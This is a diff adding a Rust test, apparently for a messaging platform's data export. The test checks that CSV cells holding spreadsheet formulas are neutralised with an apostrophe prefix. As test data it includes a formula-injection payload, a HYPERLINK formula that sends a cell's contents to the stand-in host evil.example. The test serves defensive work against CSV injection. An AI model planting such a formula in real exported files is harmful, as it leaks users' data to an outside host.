@@ -406,6 +406,44 @@ async fn the_csv_files_and_the_page_read_back(h: Harness) {
     assert!(files["README.txt"].contains("data.json"));
 }
 
+async fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(h: Harness) {
+    let dir = tempfile::tempdir().unwrap();
+    let archives = LocalArchives::new(dir.path());
+    let s = seed(&h).await;
+    let formula = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Click\")";
+    let attack = message(
+        &h,
+        &s.tenant,
+        &s.contact,
+        "wamid.formula",
+        Direction::Inbound,
+        formula,
+    );
+    h.store
+        .put_message(&attack, &s.tenant.retention())
+        .await
+        .unwrap();
+    let files = exported(&h, &archives, &job(&h, &s, ExportScope::Tenant)).await;
+    let mut messages = csv::Reader::from_reader(files["messages.csv"].as_bytes());
+    let text = messages
+        .headers()
+        .unwrap()
+        .iter()
+        .position(|h| h == "text")
+        .unwrap();
+    let cells: Vec<String> = messages
+        .records()
+        .map(|r| r.unwrap()[text].to_owned())
+        .collect();
+    assert!(cells.contains(&format!("'{formula}")), "{cells:?}");
+    assert!(!cells.iter().any(|c| c.starts_with('=')), "{cells:?}");
+    let data: Value = serde_json::from_str(&files["data.json"]).unwrap();
+    assert!(
+        data.to_string().contains("=HYPERLINK("),
+        "data.json keeps the text verbatim"
+    );
+}
+
 async fn jobs_are_built_once_and_fail_when_their_contact_is_gone(h: Harness) {
     let dir = tempfile::tempdir().unwrap();
     let archives = LocalArchives::new(dir.path());
@@ -464,5 +502,6 @@ on_both_backends!(
     a_contact_export_holds_every_kind_of_item_stored_for_the_contact,
     data_json_validates_against_its_published_schema,
     the_csv_files_and_the_page_read_back,
+    csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised,
     jobs_are_built_once_and_fail_when_their_contact_is_gone,
 );
